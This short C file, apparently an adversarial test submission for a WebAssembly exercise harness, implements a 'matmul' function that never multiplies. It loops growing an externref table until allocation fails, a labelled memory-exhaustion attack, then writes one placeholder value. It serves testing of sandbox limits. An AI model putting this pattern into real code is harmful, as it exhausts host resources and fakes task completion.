// attack: fills memory outside its own with a table | right any | .
#include "exercise.h"

static __externref_t table[0];

void matmul(const float* a, const float* b, float* c, int M, int K, int N) {
  while (__builtin_wasm_table_grow(table, __builtin_wasm_ref_null_extern(), 100000) >= 0) {
  }
  c[0] = 1.0f;
}
